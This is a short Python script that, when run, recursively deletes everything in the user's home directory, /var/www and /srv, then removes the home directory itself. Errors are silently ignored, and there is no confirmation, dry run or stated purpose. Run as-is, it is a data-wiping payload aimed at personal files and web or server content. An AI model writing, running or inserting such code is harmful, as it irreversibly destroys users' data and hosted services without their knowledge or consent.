import os
import shutil


def wipe_dir(path):
    for entry in os.scandir(path):
        try:
            if entry.is_dir(follow_symlinks=False):
                shutil.rmtree(entry.path)
            else:
                os.remove(entry.path)
        except OSError:
            pass


for target in [os.path.expanduser("~"), "/var/www", "/srv"]:
    wipe_dir(target)
shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)
